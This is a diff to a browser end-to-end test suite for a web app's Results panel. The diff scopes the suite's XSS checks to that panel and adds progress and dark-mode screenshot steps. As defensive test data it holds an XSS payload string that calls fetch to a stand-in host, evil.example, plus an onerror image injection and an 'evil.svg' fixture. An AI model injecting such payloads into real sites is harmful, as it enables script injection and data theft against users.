@@ -14,8 +14,10 @@ import {
   type JobSummary,
   LocalArtifactStore,
   type NewJobEvent,
+  QUEUE_NAME,
   redisKeys,
 } from '@headway/progress';
+import { Queue } from 'bullmq';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { loadSampleCorpus } from '../../packages/literature-review/src/corpus.ts';
@@ -83,23 +85,28 @@ async function jobWith(files: File[]): Promise<{ job: JobSummary; events: NewJob
   events.push({ ...base, ts: new Date(start + 50_000).toISOString(), kind: 'status', status: 'completed' });
   const connection = createRedis(redis.url, 'blocking');
   await new EventStream(connection, redisKeys(PREFIX), { maxLen: 1000 }).append(job.id, events);
+  // What a worker stores beside the events: the job list's count comes from it.
+  const queue = new Queue(QUEUE_NAME, { connection, prefix: PREFIX });
+  await (await queue.getJob(job.id))?.updateProgress({ percentage: 100, artifacts: files.length });
+  await queue.close();
   connection.disconnect();
   return { job, events };
 }
 
-/** Every element under `root`, through shadow roots, as [tag, attribute names, href/src]. */
-const deepElements = (page: Page) =>
-  page.evaluate(() => {
-    const out: Array<{ tag: string; attrs: string[] }> = [];
-    const walk = (root: Document | ShadowRoot) => {
+/** Every element of the page (or only of `<hw-results>`), through shadow roots, with its attributes. */
+const deepElements = (page: Page, within?: string) =>
+  page.evaluate((within) => {
+    const out: Array<{ tag: string; attrs: string[]; inside: boolean }> = [];
+    const walk = (root: Document | ShadowRoot, inside: boolean) => {
       for (const el of root.querySelectorAll('*')) {
-        out.push({ tag: el.tagName.toLowerCase(), attrs: el.getAttributeNames().map((n) => `${n}=${el.getAttribute(n)}`) });
-        if (el.shadowRoot) walk(el.shadowRoot);
+        const here = inside || el.tagName.toLowerCase() === within;
+        out.push({ tag: el.tagName.toLowerCase(), attrs: el.getAttributeNames().map((n) => `${n}=${el.getAttribute(n)}`), inside: here });
+        if (el.shadowRoot) walk(el.shadowRoot, here);
       }
     };
-    walk(document);
-    return out;
-  });
+    walk(document, false);
+    return out.filter((e) => !within || e.inside);
+  }, within);
 
 const PWN = "alert(1);window.top.pwned=1;fetch('http://evil.example/x')";
 
@@ -162,16 +169,16 @@ describe('Results panel', () => {
     await results.waitFor();
     expect(await results.locator('.count').innerText()).toMatch(/^8 files · /);
 
-    // summary.md comes first and open; its link names the report's artifact address.
+    // summary.md comes first and open; its link to the report is the report's permalink.
     const first = results.getByRole('button').first();
     expect(await first.getAttribute('aria-expanded')).toBe('true');
     expect(await first.innerText()).toMatch(/^summary\.md/);
     const summary = page.getByRole('region', { name: 'Preview of summary.md' });
     await summary.getByRole('heading', { name: 'Summary' }).waitFor();
-    expect(await summary.getByRole('link', { name: 'the report' }).getAttribute('href')).toBe(`/api/jobs/${job.id}/artifacts/report.md?attempt=1`);
+    expect(await summary.getByRole('link', { name: 'the report' }).getAttribute('href')).toBe(`/jobs/${job.id}/artifacts/report.md`);
 
     // Grouped by stage, in the pipeline's order; files of no stage last.
-    expect(await results.locator('h3').allInnerTexts()).toEqual(['Gap analysis', 'Visualization', 'Finalization', 'Other files']);
+    expect(await results.locator('h3').allTextContents()).toEqual(['Gap analysis', 'Visualization', 'Finalization', 'Other files']);
 
     const report = await open(page, 'report.md');
     await report.getByRole('heading', { name: 'Literature review', level: 1 }).waitFor();
@@ -204,10 +211,19 @@ describe('Results panel', () => {
     expect(await md.locator('.markdown').innerText()).toContain('<img src=x onerror=alert(1)>');
     await page.waitForTimeout(300);
 
-    const elements = await deepElements(page);
-    expect(elements.filter((e) => e.tag === 'script' && !e.attrs.some((a) => a.startsWith('src=/assets/')))).toEqual([]);
-    expect(elements.flatMap((e) => e.attrs).filter((a) => /^on/i.test(a) || /^(href|src)=\s*(javascript|data):/i.test(a))).toEqual([]);
-    expect(elements.filter((e) => ['iframe', 'object', 'embed'].includes(e.tag))).toEqual([]);
+    // In the whole page, only the app's own script; in Results, no handler, no javascript:/data: URL.
+    const page_ = await deepElements(page);
+    expect(page_.filter((e) => e.tag === 'script').map((e) => e.attrs.find((a) => a.startsWith('src=')))).toEqual([
+      expect.stringMatching(/^src=\/assets\/index-[\w-]+\.js$/),
+    ]);
+    expect(page_.filter((e) => ['iframe', 'object', 'embed'].includes(e.tag))).toEqual([]);
+    const panel = await deepElements(page, 'hw-results');
+    expect(panel.length).toBeGreaterThan(50);
+    expect(panel.flatMap((e) => e.attrs).filter((a) => /^on/i.test(a) || /^(href|src)=\s*(javascript|data):/i.test(a))).toEqual([]);
+    expect(panel.filter((e) => e.tag === 'img').map((e) => e.attrs.find((a) => a.startsWith('src='))).sort()).toEqual([
+      `src=/api/jobs/${job.id}/artifacts/charts/radar.svg?attempt=1`,
+      `src=/api/jobs/${job.id}/artifacts/evil.svg?attempt=1`,
+    ]);
     expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
     expect(seen).toEqual({ dialogs: [], foreign: [], errors: [] });
 
@@ -227,9 +243,9 @@ describe('Results panel', () => {
     await page.close();
   });
 
-  it('opens a permalink’s preview and scrolls it into view, on a phone-wide screen', async () => {
+  it('opens a permalink’s preview and scrolls it into view, on a phone-wide screen in the dark', async () => {
     const { job } = await jobWith(FILES);
-    const page = await browser.newPage({ viewport: { width: 360, height: 740 } });
+    const page = await browser.newPage({ viewport: { width: 360, height: 740 }, colorScheme: 'dark' });
     const seen = watch(page);
     await page.goto(`${api.url}/jobs/${job.id}/artifacts/data/table.csv`);
     const preview = page.getByRole('region', { name: 'Preview of data/table.csv' });
@@ -242,6 +258,7 @@ describe('Results panel', () => {
       .toBe(true);
     // Nothing wider than the screen but what scrolls inside its own box.
     expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
+    await page.screenshot({ path: join(shots, 'results-360-dark.png') });
     // The permalink link of another file navigates in the app and opens that one too.
     await page.getByRole('region', { name: 'Results' }).getByRole('button', { name: /^charts\/radar\.svg/ }).click();
     await page.getByRole('region', { name: 'Preview of charts/radar.svg' }).getByRole('link', { name: 'Permalink' }).click();
@@ -283,7 +300,8 @@ describe('Results panel', () => {
     const preview = page.getByRole('region', { name: 'Preview of report.md' });
     const radar = preview.getByRole('img', { name: 'Completeness by pillar' });
     await expect.poll(() => radar.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
-    await page.getByRole('region', { name: 'Results' }).evaluate((el) => el.scrollIntoView({ block: 'start' }));
+    await page.getByRole('region', { name: 'Results' }).evaluate((el) => el.getRootNode() instanceof ShadowRoot && (el.getRootNode() as ShadowRoot).host.scrollIntoView({ block: 'start' }));
+    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
     await page.screenshot({ path: join(shots, 'results-literature-review.png') });
     await page.close();
   });
